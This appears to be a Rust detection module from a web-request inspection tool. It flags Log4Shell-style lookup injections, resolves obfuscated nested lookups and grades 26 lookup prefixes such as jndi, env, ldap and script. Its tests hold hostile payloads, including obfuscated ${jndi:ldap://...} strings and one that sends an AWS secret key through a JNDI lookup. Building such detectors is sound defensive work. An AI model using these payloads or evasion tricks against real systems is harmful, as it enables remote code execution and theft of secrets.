//! Lookups that a logging or template library might resolve: `${env:AWS_SECRET_ACCESS_KEY}`, `${jndi:ldap://…}`.
//!
//! They may stand in any field that is logged, since logging it is what sets them off. Whether one was resolved is
//! never in the same log, so the answer weighs little; that it was tried, and for which name, is here.

use crate::bytes::find_pair;
use crate::catalog::Grade;
use crate::request::Request;
use crate::signal::{Evidence, Role, Signal, Way};
use crate::vocabulary::Mark;

/// How often nested lookups are resolved before the text is taken as it stands.
const ROUNDS_MAX: usize = 16;

/// A lookup of a logging library, a template or a shell.
pub(crate) struct LookupString;

impl Signal for LookupString {
    fn name(&self) -> &'static str {
        "lookup-string"
    }

    fn role(&self) -> Role {
        Role::Objective
    }

    fn technique(&self) -> Option<&'static str> {
        Some("T1190")
    }

    fn about(&self) -> &'static str {
        "Holds a lookup that a logging library might resolve: of an environment variable, or of code from elsewhere."
    }

    fn twin(&self) -> &'static str {
        "A template that a page forgot to fill in names a variable of its own: `${product.id}`."
    }

    fn look(&self, request: &Request<'_>, out: &mut Vec<Evidence>) {
        for part in &request.parts {
            // What opens a lookup is a mark.
            let mut readings = part.readings.iter().filter(|reading| reading.words.has(Mark::Injection));
            let found = readings.find_map(|reading| Some((reading, lookup(&reading.folded)?)));
            if let Some((reading, (grade, seen, what))) = found {
                out.push(Evidence::new(grade, Way::Inject, part, &reading.trail, &seen, what));
            }
        }
    }
}

/// The lookup in a text, once the lookups that hide it are resolved.
fn lookup(text: &[u8]) -> Option<(Grade, Vec<u8>, &'static str)> {
    find_pair(text, *b"${")?;
    let mut text = text.to_vec();
    for _ in 0..ROUNDS_MAX {
        match resolve_one(&text) {
            Some(next) => text = next,
            None => break,
        }
    }
    let mut firsts = [None; STARTS.len()];
    for at in memchr::memchr_iter(b'$', &text) {
        let is_there =
            |(start, ..): &(&[u8], Grade, &str)| start.get(2) == text.get(at + 2) && text[at..].starts_with(start);
        if let Some(which) = STARTS.iter().position(is_there) {
            firsts[which].get_or_insert(at);
        }
    }
    let told = firsts.into_iter().zip(&STARTS).filter_map(|(at, (_, grade, what))| Some((at?, *grade, *what)));
    let (start, grade, what) = told.max_by_key(|(start, grade, _)| (*grade, *start))?;
    Some((grade, text[start..].to_vec(), what))
}

/// How lookups begin that are resolved.
const STARTS: [(&[u8], Grade, &str); 26] = [
    (b"${env:", Grade::Strong, "an environment variable"),
    (b"${sys:", Grade::Likely, "a property of the Java process"),
    (b"${jndi:", Grade::Strong, "code or a name from elsewhere"),
    (b"${ctx:", Grade::Fair, "a value of the logging context"),
    (b"${k8s:", Grade::Likely, "a property of the pod"),
    (b"${docker:", Grade::Likely, "a property of the container"),
    (b"${spring:", Grade::Likely, "a property of the Spring application"),
    (b"${bundle:", Grade::Likely, "a property of the application"),
    (b"${java:", Grade::Fair, "the version of the Java process"),
    (b"${file:", Grade::Strong, "a file of the server"),
    (b"${script:", Grade::Strong, "a script that is run"),
    (b"${url:", Grade::Likely, "a page from elsewhere"),
    (b"${dns:", Grade::Strong, "a name from elsewhere"),
    (b"${ldap:", Grade::Strong, "code or a name from elsewhere"),
    (b"${rmi:", Grade::Strong, "code or a name from elsewhere"),
    (b"${base64", Grade::Likely, "a text in base64"),
    (b"${urldecoder:", Grade::Likely, "a text in percent encoding"),
    (b"${const:", Grade::Likely, "a constant of the Java process"),
    (b"${xml:", Grade::Strong, "a file of the server"),
    (b"${properties:", Grade::Strong, "a file of the server"),
    (b"${resourcebundle:", Grade::Likely, "a property of the application"),
    (b"${main:", Grade::Fair, "an argument of the Java process"),
    (b"${log4j:", Grade::Fair, "the configuration of the logging library"),
    (b"${web:", Grade::Fair, "a property of the web application"),
    (b"${map:", Grade::Fair, "a value of the logging context"),
    (b"${sd:", Grade::Fair, "a value of the logging context"),
];

/// Resolves the first innermost lookup that only spells letters: `${lower:j}`, `${::-j}`, `${env:NOPE:-j}`.
fn resolve_one(text: &[u8]) -> Option<Vec<u8>> {
    let mut from = 0;
    while let Some(at) = find_pair(&text[from..], *b"${") {
        let start = from + at;
        let inner = &text[start + 2..];
        let end = memchr::memchr2(b'}', b'$', inner)?;
        if inner[end] == b'}' {
            let body = &inner[..end];
            let plain = body
                .strip_prefix(b"lower:")
                .or_else(|| body.strip_prefix(b"upper:"))
                .or_else(|| find_pair(body, *b":-").map(|at| &body[at + 2..]));
            if let Some(plain) = plain {
                return Some([&text[..start], plain, &inner[end + 1..]].concat());
            }
        }
        from = start + 2;
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::vocabulary::VOCABULARY;

    #[test]
    fn hidden_lookups_are_resolved() {
        for text in [
            "${jndi:ldap://x/a}",
            "${${lower:j}ndi:ldap://x}",
            "${${::-j}${::-n}${::-d}${::-i}:x}",
            "${${env:nope:-j}ndi:x}",
            "a ${jndi:${lower:l}dap://x}",
        ] {
            assert_eq!(lookup(text.as_bytes()).map(|(grade, ..)| grade), Some(Grade::Strong), "{text}");
        }
        let (_, seen, _) = lookup(b"${jndi:ldap://x/${env:aws_secret_access_key}}").unwrap();
        assert_eq!(seen, b"${env:aws_secret_access_key}}");
    }

    #[test]
    fn every_lookup_begins_with_a_mark() {
        for (start, ..) in STARTS {
            assert!(VOCABULARY.words(start, 0, true).has(Mark::Injection), "{}", start.escape_ascii());
        }
    }

    #[test]
    fn templates_of_pages_are_none() {
        for text in ["${product.id}", "$env:x", "${", "${}", "${a:b}", "price ${10}"] {
            assert_eq!(lookup(text.as_bytes()), None, "{text}");
        }
    }
}
